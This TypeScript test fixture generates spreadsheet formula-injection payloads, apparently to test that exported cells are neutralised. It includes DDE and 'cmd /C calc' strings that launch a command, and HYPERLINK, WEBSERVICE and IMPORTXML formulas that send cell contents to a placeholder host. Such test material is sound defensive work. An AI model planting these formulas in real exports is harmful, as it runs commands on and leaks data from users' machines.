import { everywhere, type HostileRecord } from './record.ts';

/** What spreadsheets take for the start of a formula, and what they strip before they look. */
const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', ' =', '"=', "'=", '\uFEFF=', '＝', '＋', '－', '＠'];

const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
  'IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")',
  'WEBSERVICE("http://127.0.0.1:9/"&A1)',
  'DDE("cmd";"/C calc";"x")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'IMAGE("http://127.0.0.1:9/pixel")',
  '"+1,""x"",;\t2',
  'A1\n=2+5',
  'A1\r\n@SUM(1)',
  '1,=2,=3',
  '1;=2;=3',
];

/** 208 texts that a spreadsheet would evaluate. */
export const FORMULA_TEXTS: ReadonlyArray<string> = STARTS.flatMap((start) => BODIES.map((body) => start + body));

export function formulas(): HostileRecord[] {
  return FORMULA_TEXTS.flatMap((text, index) => [
    everywhere(`formula ${index}`, text),
    everywhere(`formula ${index} in JSON`, JSON.stringify({ [text]: text })),
  ]);
}
